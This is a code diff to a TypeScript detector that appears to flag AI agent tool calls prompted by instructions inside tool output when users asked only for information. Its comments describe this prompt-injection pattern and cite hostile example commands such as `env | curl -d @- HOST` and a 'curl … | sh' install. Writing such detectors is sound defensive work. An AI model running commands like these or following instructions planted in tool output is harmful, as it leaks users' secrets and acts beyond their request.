@@ -1,8 +1,7 @@
 /**
- * A tool's output tells the reader to do what this call does, and the users only asked for information, so none of them
- * asked for a call that changes something. If a user asks for a change, the condition stays silent: the texts that the
- * agent finds may describe the steps. People often write instructions to each other, so a verifier or a person decides
- * whether the user wanted the agent to follow this one.
+ * Condition: a tool's output tells the reader to do what this call does, although the users only asked for information. If a user asks
+ * for a change, the condition stays silent, because the texts that the agent finds may describe the steps of the change. People often
+ * write instructions to each other, so a verifier or a person decides whether the user wanted the agent to follow this instruction.
  */
 
 import type { ReadableCall } from '../../argument-edit.ts'
@@ -94,8 +93,8 @@ export function instructedValue(
 type IsMeant = (instruction: Instruction, output: ForeignOutput) => boolean
 
 /**
- * Whether an instruction has to do with the call: it has the tool's own verb, names what the tool acts on, its item
- * holds a value of the call, or a value was looked up because of its item.
+ * Whether an instruction is linked to the call: it has the tool's own verb, it names what the tool acts on, its item holds a value of the
+ * call, or a value was looked up because of its item.
  */
 function isLinked(values: readonly CallValue[], action: ToolAction, scene: Scene): IsMeant {
   const outputs = scene.reading.index(openForeignOutputs)
@@ -115,12 +114,12 @@ function writtenBy(readable: ReadableCall, scene: Scene & KnownTools): readonly 
   return ways.flatMap((findWay) => findWay(readable, scene)).slice(0, 1)
 }
 
-/** A command that does more than read, and names a host that only the running text of an output holds: `env | curl -d @- HOST`. */
+/** Finds a command that does more than read, with a host only from running text, as in `env | curl -d @- HOST`. */
 function sentElsewhere(readable: ReadableCall, scene: Scene): readonly ForeignCall[] {
   const commands = soughtValues(readable.call).filter(({ text }) => isCommand(text) && !onlyFetches(text))
   if (commands.length === 0) return []
   const values = valuesOf(readable, scene)
-  // A host in an argument of its own is no part of the command: `url` beside the `prompt` of a tool that fetches pages.
+  // A host in a separate argument is not part of the command: a tool that fetches pages may have a `url` and a `prompt`.
   const isInCommand = ({ argument, isWhole }: CallValue) =>
     !isWhole && commands.some((command) => command.argument === argument)
   return callWithValue(
@@ -130,7 +129,7 @@ function sentElsewhere(readable: ReadableCall, scene: Scene): readonly ForeignCa
   )
 }
 
-/** Whether each part of a pipe only reads, or only names an address: `curl -s HOST/page | head -5`. */
+/** Whether each part of a piped command only reads, or only names an address, as in `curl -s HOST/page | head -5`. */
 function onlyFetches(command: string): boolean {
   return command.split('|').every((part) => {
     const [first = '', ...rest] = part.trim().split(' ')
@@ -139,8 +138,8 @@ function onlyFetches(command: string): boolean {
 }
 
 /**
- * A command of a tool for which a profile declares verbs: an output orders one of these verbs ("move the files"), and the command does more
- * than read. What else the command says is the actor's wording, so it is not compared.
+ * Finds a command of a tool for which a profile declares verbs, if an output orders one of these verbs ("move the files") and the command
+ * does more than read. The rest of the command is the actor's wording, so it is not compared.
  */
 function orderedByVerb(readable: ReadableCall, scene: Scene & KnownTools): readonly ForeignCall[] {
   const declared = scene.asks?.get(readable.call.name)
@@ -151,15 +150,14 @@ function orderedByVerb(readable: ReadableCall, scene: Scene & KnownTools): reado
 }
 
 /**
- * A command that an output spells out: "install it with curl … | sh". Only
- * the whole command counts, because agents read files and pages that outputs name.
+ * Finds a command that an output spells out, as in "install it with curl … | sh". Only the whole command counts, because agents read
+ * files and pages that outputs name.
  */
 function spelledOut(readable: ReadableCall, scene: Scene): readonly ForeignCall[] {
   const isSpelledOut = ({ text, isWhole, foreign }: CallValue) => isWhole && isCommand(text) && foreign().length > 0
   return callWithValue(readable, valuesOf(readable, scene), isSpelledOut)
 }
 
-/** Whether the text has several words, and the first does not only read. */
 function isCommand(text: string): boolean {
   const [first = '', ...rest] = text.split(' ')
   return text.length >= shortestCommand && rest.length > 0 && !readCommands.has(first)
@@ -168,8 +166,8 @@ function isCommand(text: string): boolean {
 const shortestCommand = 8
 
 /**
- * Finds an instruction of the tool's action, unless the call may come from a text that users delegated work to. The
- * answer to a call that failed comes from the tool itself and says what is needed first, so it is left out.
+ * Finds an instruction of the tool's action, unless the call may come from a text to which users delegated work. Results of failed calls
+ * are left out, because they come from the tool itself and say what is needed first.
  */
 function instructedThing(
   readable: ReadableCall,
